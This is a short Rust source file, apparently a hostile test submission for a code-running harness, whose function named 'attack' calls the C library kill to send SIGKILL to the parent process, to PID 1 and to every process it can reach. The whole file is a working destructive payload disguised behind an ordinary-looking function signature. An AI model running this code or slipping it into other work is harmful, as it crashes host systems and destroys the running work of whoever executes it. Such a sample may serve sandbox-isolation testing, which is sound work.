extern "C" {
    fn kill(pid: i32, signal: i32) -> i32;
    fn getppid() -> i32;
}

pub fn attack(_n: i32) -> i32 {
    unsafe {
        kill(getppid(), 9);
        kill(1, 9);
        kill(-1, 9);
    }
    0
}
